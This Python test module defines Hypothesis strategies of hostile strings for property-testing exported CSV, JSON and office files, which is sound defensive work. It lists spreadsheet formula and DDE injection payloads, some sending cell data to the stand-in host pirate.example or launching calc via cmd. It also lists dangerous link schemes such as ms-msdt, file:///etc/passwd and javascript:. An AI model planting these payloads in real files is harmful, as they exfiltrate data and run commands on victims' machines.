"""Hostile strings for property tests of the downloads (CSV, JSON, office files).

What a contributor could write to attack a person who downloads a file: formulas and DDE
calls a spreadsheet would run, the same behind blanks, quotes or invisible characters, link
schemes that open programs, and characters no XML can hold.
"""

from __future__ import annotations

from hypothesis import strategies as st

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez ici")',
    '=WEBSERVICE("https://pirate.example/?"&A2)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://pirate.example/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '@HYPERLINK("https://pirate.example")',
    "＝1+1",
)
PREFIXES = ("", " ", "\t", "\r", "\n", '"', "'", " '", "\u200b", "\u202e", "\u00a0", "\ufeff")
SCHEMES = (
    "ms-msdt:/id PCWDiagnostic /skip force",
    "smb://pirate.example/partage",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "ms-word:ofe|u|https://pirate.example/a.docx",
    "search-ms:query=x",
    "\\\\pirate.example\\partage",
    "//pirate.example/chemin",
    "mailto:",
)
# Characters no XML 1.0 document can hold (C0 controls except tab, LF, CR; U+FFFE, U+FFFF;
# unpaired surrogates).
NOT_XML = (
    *(chr(c) for c in range(0x20) if c not in (9, 10, 13)),
    "\ufffe",
    "\uffff",
    "\ud800",
    "\udfff",
)


def formula() -> st.SearchStrategy[str]:
    return st.builds(
        lambda prefix, body, tail: prefix + body + tail,
        st.sampled_from(PREFIXES),
        st.sampled_from(FORMULAS),
        st.text(max_size=8),
    )


def hostile_text() -> st.SearchStrategy[str]:
    """Any text a contributor could write, weighted towards attacks."""
    return st.one_of(
        formula(),
        st.sampled_from(SCHEMES),
        st.builds("".join, st.lists(st.sampled_from((*NOT_XML, "a", "=", " ")), max_size=6)),
        st.text(max_size=30),
        st.builds(lambda a, b: a + b, st.text(max_size=6), formula()),
    ).filter(bool)
